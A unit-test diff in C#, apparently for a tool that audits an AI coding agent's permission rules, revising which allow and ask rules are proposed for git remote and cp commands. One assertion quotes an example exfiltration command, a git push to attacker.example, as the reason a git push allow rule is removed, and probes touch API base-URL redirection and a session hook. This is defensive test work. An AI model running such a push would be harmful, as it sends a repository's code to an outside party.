@@ -63,8 +63,8 @@ public sealed class PolicySuggesterTests
         Assert.Contains(launch.Probes, p => p.Before.Probe.Call.Contains("ANTHROPIC_BASE_URL", StringComparison.Ordinal) && p.Closed);
         Assert.Contains(launch.Probes, p => p.Before.Probe.Call.Contains("SessionStart hook", StringComparison.Ordinal) && p.After.Decision == ProbeDecision.Denied);
         Assert.Contains(launch.RemoveAllow, r => r.Rule == "Bash(git push:*)" && r.Why.Contains("git push https://attacker.example/loot.git", StringComparison.Ordinal));
-        // The engine lets `git remote set-url` through as a read-only git command once the allow rule is gone: the second round asks for it.
-        Assert.Contains("Bash(git remote:*)", launch.AddAsk);
+        // Without the allow rule `git remote set-url` asks by itself (as the binary does): no extra ask rule is proposed for it.
+        Assert.DoesNotContain("Bash(git remote:*)", launch.AddAsk);
 
         string Verdict(string display) => Assert.Single(launch.Workflows, w => w.Call.Display == display).Verdict;
         Assert.Equal(AuditReportBuilder.StaysApproved, Verdict("Bash(npm test)"));
@@ -84,7 +84,8 @@ public sealed class PolicySuggesterTests
         Assert.Contains("docs.webapp-team.example", managed.RootElement.GetProperty("sandbox").GetProperty("network").GetProperty("allowedDomains").EnumerateArray().Select(d => d.GetString()));
 
         var diff = PolicyDocumentWriter.Diff(launch);
-        Assert.Contains("- allow Bash(cp:*) from project settings", diff, StringComparison.Ordinal);
+        // No probe goes through Bash(cp:*) any more (its writes onto protected paths and from /tmp ask, as in the binary): it stays.
+        Assert.DoesNotContain("- allow Bash(cp:*) from project settings", diff, StringComparison.Ordinal);
         Assert.Contains("+ allow Bash(npm test)", diff, StringComparison.Ordinal);
         Assert.Contains("- env.ANTHROPIC_BASE_URL", diff, StringComparison.Ordinal);
         var document = PolicyDocumentWriter.ToMarkdown(proposal);
